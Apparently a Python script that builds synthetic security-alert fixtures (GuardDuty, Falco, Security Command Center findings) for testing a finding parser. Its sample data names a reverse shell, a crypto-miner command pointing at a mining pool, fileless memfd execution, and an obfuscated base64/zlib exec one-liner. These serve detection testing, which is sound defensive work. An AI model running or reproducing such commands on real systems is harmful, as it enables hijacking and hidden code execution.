 "arn": f"arn:aws:guardduty:eu-west-1:{ACCT}:detector/{DET}/finding/f1b3d5f7b9d1f3b5d7f9b1d3f5b7d9f1",
 "type": "Execution:Runtime/ReverseShell",
 "resource": {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-03a5c7e9b1d3f5a7c"}},
 "service": {"serviceName": "guardduty", "detectorId": DET, "featureName": "RuntimeMonitoring", "count": 1,
             "eventFirstSeen": "2026-11-24T01:02:03.000Z", "eventLastSeen": "2026-11-24T01:02:03.000Z",
             "runtimeDetails": {"process": {"name": "bash", "executablePath": "/usr/bin/bash", "pid": 3301, "user": "ec2-user"}}},
 "severity": 8.0, "createdAt": "2026-11-24T01:02:10.000Z", "updatedAt": "2026-11-24T01:02:10.000Z",
 "title": "A process has established a reverse shell."
}
dump("guardduty/get-findings.json", {"Findings": [pascal(cli1), pascal(cli2), pascal(cli3)]})

# bare camelCase findings, one per line (jq -c '.detail')
b1 = json.loads(json.dumps(gd1))
b1["id"] = "d5f7b9d1f3b5d7f9b1d3f5b7d9f1b3d5"; b1["arn"] = b1["arn"].replace(gd1["id"], b1["id"])
del b1["service"]["runtimeDetails"]["process"]["executableSha256"]
del b1["service"]["runtimeDetails"]["context"]
b1["service"]["runtimeDetails"]["process"]["executablePath"] = "/app/node_modules/.bin/esbuild"
b2 = json.loads(json.dumps(gd2)); b2["id"] = "9b1d3f5b7d9f1b3d5f7b9d1f3b5d7f9b"
b2["type"] = "Execution:Runtime/NewBinaryExecuted"
b2["service"]["runtimeDetails"]["process"].update({"executablePath": "/opt/invoicer/bin/report-gen", "executableSha256": h("report-gen")})
del b2["service"]["runtimeDetails"]["context"]
with open("guardduty/bare-findings.jsonl", "w") as fh:
    for b in (b1, b2):
        fh.write(json.dumps(b, separators=(",", ":")) + "\n")

# ---------------- Falco
def falco_line(rule, prio, time, fields, output, tags, host="ip-10-0-3-17.eu-west-1.compute.internal", extra=None):
    d = {"hostname": host, "output": output, "output_fields": fields, "priority": prio, "rule": rule, "source": "syscall", "tags": sorted(tags), "time": time}
    if extra: d.update(extra)
    return d
DROP = "Drop and execute new binary in container"
drop_fields = {
 "container.id": "3ad8c2f1b7e4", "container.image.digest": f"sha256:{h('web-frontend')}",
 "container.image.repository": "ghcr.io/acme/web-frontend", "container.image.tag": "4.8.1", "container.name": "web",
 "container.start_ts": 1763719000000000000, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER", "evt.time": 1763720000123456789, "evt.type": "execve",
 "k8s.ns.name": "storefront", "k8s.pod.name": "web-frontend-5c7d9f8b6-abcde", "proc.aname[2]": "containerd-shim",
 "proc.cmdline": "xmr -o pool.example.net:3333 --tls", "proc.cwd": "/tmp/", "proc.exe": "./xmr",
 "proc.exe_ino.ctime": 1763719990000000000, "proc.exe_ino.ctime_duration_proc_start": 10123456789, "proc.exe_ino.mtime": 1763719990000000000,
 "proc.exepath": "/tmp/xmr", "proc.name": "xmr", "proc.pname": "bash", "proc.sname": "bash", "proc.tty": 34816,
 "user.loginuid": -1, "user.name": "root", "user.uid": 0}
lines = [
 falco_line(DROP, "Critical", "2026-11-21T10:13:20.123456789Z", drop_fields,
            "10:13:20.123456789: Critical Executing binary not part of base image (proc_exe=./xmr ... proc_exepath=/tmp/xmr ...)",
            ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"]),
 falco_line("Fileless execution via memfd_create", "Critical", "2026-11-21T10:20:01.000000001Z",
            {"container.id": "9c1e3a5c7e9a", "container.image.repository": "docker.io/library/python", "container.image.tag": "3.12-slim",
             "container.name": "jobs", "evt.time": 1763720401000000001, "evt.type": "execve", "k8s.ns.name": "jobs", "k8s.pod.name": "nightly-29393240-x7k2p",
             "proc.cmdline": "3", "proc.exe": "3", "proc.exepath": "/memfd:payload", "proc.is_exe_from_memfd": True, "proc.name": "3",
             "proc.pname": "python3", "user.name": "app", "user.uid": 1000, "user.loginuid": -1},
            "10:20:01.000000001: Critical Fileless execution via memfd_create (...)",
            ["maturity_stable", "host", "container", "process", "mitre_defense_evasion", "T1620"]),
 falco_line("Execution from /dev/shm", "Warning", "2026-11-21T10:25:44.500000000Z",
            {"container.id": "5e7a9c1e3a5c", "container.image.repository": None, "container.image.tag": None, "container.name": None,
             "evt.time": 1763720744500000000, "evt.type": "execve", "k8s.ns.name": None, "k8s.pod.name": None,
             "proc.cmdline": "run --once", "proc.exe": "/dev/shm/.x/run", "proc.exepath": "/dev/shm/.x/run", "proc.name": "run",
             "proc.pname": "sh", "user.name": "root", "user.uid": 0, "user.loginuid": -1},
            "10:25:44.500000000: Warning File execution detected from /dev/shm (...)",
            ["maturity_stable", "host", "container", "mitre_execution", "T1059.004"]),
 falco_line("Terminal shell in container", "Notice", "2026-11-21T10:30:00.000000000Z",
            {"container.id": "3ad8c2f1b7e4", "container.image.repository": "ghcr.io/acme/web-frontend", "container.image.tag": "4.8.1",
             "container.name": "web", "evt.type": "execve", "k8s.ns.name": "storefront", "k8s.pod.name": "web-frontend-5c7d9f8b6-abcde",
             "proc.cmdline": "bash", "proc.exepath": "/bin/bash", "proc.name": "bash", "proc.pname": "runc", "user.name": "root", "user.uid": 0},
            "10:30:00.000000000: Notice A shell was spawned in a container with an attached terminal (...)",
            ["maturity_stable", "container", "shell", "mitre_execution", "T1059"]),
 falco_line(DROP, "Critical", "2026-11-21T10:31:07.250000000Z",
            {"container.id": "3ad8c2f1b7e4", "container.image.repository": "ghcr.io/acme/web-frontend", "container.image.tag": "<NA>",
             "container.name": "web", "evt.type": "execve", "k8s.ns.name": "storefront", "k8s.pod.name": "web-frontend-5c7d9f8b6-abcde",
             "proc.cmdline": "payload", "proc.exe": "./payload", "proc.exepath": None, "proc.name": "payload", "proc.pname": "bash",
             "user.name": "root", "user.uid": 0},
            "10:31:07.250000000: Critical Executing binary not part of base image (proc_exe=./payload ...)",
            ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"]),
]
with open("falco/json-output.jsonl", "w") as fh:
    for l in lines:
        fh.write(json.dumps(l, separators=(",", ":")) + "\n")

sk_fields = {"container.id": "7b9d1f3b5d7f", "container.image.repository": "registry.acme.internal/tools/runner", "container.image.tag": "2026.11",
             "container.name": "runner", "evt.time": 1763721111222333444, "evt.type": "execve", "k8s.ns.name": "ci", "k8s.pod.name": "runner-4f6h8",
             "proc.cmdline": "go-build1234 -test.v", "proc.exe": "/tmp/go-build1234/b001/exe/pkg.test", "proc.exepath": "/tmp/go-build1234/b001/exe/pkg.test",
             "proc.name": "pkg.test", "proc.pid": 4432, "proc.ppid": 4410, "proc.pexepath": "/usr/local/go/bin/go", "proc.pname": "go",
             "user.name": "runner", "user.uid": 1001, "user.loginuid": -1}
sk = falco_line(DROP, "Critical", "2026-11-21T10:51:51.222333444Z", sk_fields,
                "10:51:51.222333444: Critical Executing binary not part of base image (...)",
                ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
                host="gke-ci-pool-2c4e6a8c-p0q1", extra={"uuid": "6f0d3c1a-9b2e-4d8f-a7c5-3e1b9d7f5a20"})
sk = {"uuid": sk.pop("uuid"), **sk}
dump("falco/falcosidekick.json", sk)

# ---------------- mixed
with open("mixed/auto-detect.jsonl", "w") as fh:
    fh.write(json.dumps(notif_v1, separators=(",", ":")) + "\n")
    fh.write("\n")
    fh.write(json.dumps(eb, separators=(",", ":")) + "\n")
    fh.write(json.dumps(lines[0], separators=(",", ":")) + "\n")
    fh.write(json.dumps(push, separators=(",", ":")) + "\n")
with open("mixed/concatenated.json", "w") as fh:
    for b in (pascal(cli2), pascal(cli3)):
        fh.write(json.dumps(b, indent=2) + "\n")
bad = json.loads(json.dumps(gl))
bad.insert(1, json.loads(json.dumps(gl[0])))
bad[1]["finding"]["name"] = f"organizations/{ORG}/sources/{SRC}/findings/badbadbadbadbadbadbadbadbadbadba"
bad[1]["finding"]["processes"][0]["binary"]["hashedSize"] = "12 KiB"
dump("mixed/array-with-bad-element.json", bad)

# ---------------- which container, truncation, node names (issue 9)
SIDECAR = "europe-west4-docker.pkg.dev/acme-payments-prod/infra/log-shipper"
def two_containers(name_id):
    app = {"name": "checkout", "uri": f"{REPO}:1.14.2", "imageId": f"{REPO}@sha256:{h('checkout-index')}"}
    side = {"name": "log-shipper", "uri": f"{SIDECAR}:3.1.0", "imageId": f"{SIDECAR}@sha256:{h('log-shipper-index')}"}
    return {
     "name": f"organizations/{ORG}/sources/{SRC}/findings/{name_id}",
     "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "ACTIVE",
     "category": "Added Binary Executed", "eventTime": "2026-11-29T08:00:00.000Z", "createTime": "2026-11-29T08:00:02.000Z",
     "severity": "LOW", "mute": "UNDEFINED", "findingClass": "THREAT",
     "processes": [{"name": "fluent-bit", "binary": {"path": "/fluent-bit/bin/fluent-bit", "size": "48210944", "sha256": h("fluent-bit"), "hashedSize": "48210944", "partiallyHashed": False},
                    "args": ["/fluent-bit/bin/fluent-bit", "-c", "/fluent-bit/etc/fluent-bit.conf"], "pid": "77", "parentPid": "1"}],
     "parentDisplayName": "Container Threat Detection",
     "containers": [app, side],
     "kubernetes": {"pods": [{"ns": "checkout", "name": "checkout-7d9f8b6c5-x2kqp", "containers": [app, side]}], "nodes": [{"name": NODE}]},
    }
# 11. two containers with different images; Container_Name says which one
named = two_containers("3c5e7a9c1e3a5c7e9a1c3e5a7c9e1a3c")
named["sourceProperties"] = {"Pod_Namespace": "checkout", "Pod_Name": "checkout-7d9f8b6c5-x2kqp", "Container_Name": "log-shipper",
                             "Container_Image_Uri": f"{SIDECAR}:3.1.0", "VM_Instance_Name": "gke-payments-gke-prod-default-pool-5f2a9c1e-7h3k"}
dump("scc/two-containers-named.json", named)
# 12. the same without anything naming the container: the image is unknown
dump("scc/two-containers-ambiguous.json", two_containers("4d6f8b0d2f4b6d8f0b2d4f6b8d0f2b4d"))

# 13. argumentsTruncated: the arguments were cut, the path is whole
k8s, c = checkout_k8s(f"{REPO}:1.14.2", f"{REPO}@sha256:{h('checkout-index')}")
cut = {
 "name": f"organizations/{ORG}/sources/{SRC}/findings/5e7a9c1e3a5c7e9a1c3e5a7c9e1a3c5e",
 "parent": f"organizations/{ORG}/sources/{SRC}", "resourceName": CLUSTER_RN, "state": "ACTIVE",
 "category": "Added Binary Executed", "eventTime": "2026-11-29T09:30:00.000Z", "severity": "LOW",
 "processes": [{"name": "python3", "binary": {"path": "/usr/local/bin/python3.12", "size": "6632", "sha256": h("python3.12"), "hashedSize": "6632", "partiallyHashed": False},
                "args": ["python3", "-c", "import base64,zlib;exec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))" + " " * 16],
                "argumentsTruncated": True, "pid": "2301", "parentPid": "2290"}],
 "parentDisplayName": "Container Threat Detection", "containers": [c], "kubernetes": k8s
}
dump("scc/arguments-truncated.json", cut)

# 14. notification whose only node is a Compute Engine resource name (no VM_Instance_Name)
node_uri = json.loads(json.dumps(notif_v1))
node_uri["finding"]["name"] = f"organizations/{ORG}/sources/{SRC}/findings/6f8b0d2f4b6d8f0b2d4f6b8d0f2b4d6f"
node_uri["finding"]["kubernetes"]["nodes"] = [{"name": "//compute.googleapis.com/projects/412938475610/zones/europe-west4-c/instances/gke-payments-gke-prod-highmem-pool-9b1d3f5a-q2w4"}]
node_uri["finding"]["kubernetes"]["nodePools"] = [{"name": "highmem-pool", "nodes": node_uri["finding"]["kubernetes"]["nodes"]}]
dump("scc/gke-node-uri.json", node_uri)

# GuardDuty EKS finding whose instanceDetails carry the node's network interface (EKS names
# nodes after the private DNS name; the instance id is no node name)
dns = json.loads(json.dumps(eb))
dns["id"] = "c4e6a8c0-e2a4-4c6e-8a0c-2e4a6c8e0a2c"
d = dns["detail"]
d["id"] = "7a9c1e3a5c7e9a1c3e5a7c9e1a3c5e7a"; d["arn"] = d["arn"].replace(gd1["id"], d["id"])
d["resource"]["instanceDetails"].update({
  "imageId": "ami-0c1d2e3f4a5b6c7d8", "imageDescription": "EKS Kubernetes Worker AMI with AmazonLinux2023 image",
  "instanceState": "running", "launchTime": "2026-11-01T07:12:45.000Z", "outpostArn": None,
  "iamInstanceProfile": {"arn": f"arn:aws:iam::{ACCT}:instance-profile/eks-orders-nodes", "id": "AIPAEXAMPLEEXAMPLE123"},
  "networkInterfaces": [{
    "ipv6Addresses": [], "networkInterfaceId": "eni-0a1b2c3d4e5f60718",
    "privateDnsName": "ip-10-20-37-112.eu-west-1.compute.internal", "privateIpAddress": "10.20.37.112",
    "privateIpAddresses": [{"privateDnsName": "ip-10-20-37-112.eu-west-1.compute.internal", "privateIpAddress": "10.20.37.112"}],
    "publicDnsName": "", "publicIp": None,
    "securityGroups": [{"groupId": "sg-0123456789abcdef0", "groupName": "eks-cluster-sg-orders-eks"}],
    "subnetId": "subnet-0fedcba9876543210", "vpcId": "vpc-0a1b2c3d4e5f60718"}]})
dump("guardduty/eks-private-dns-name.json", dns)
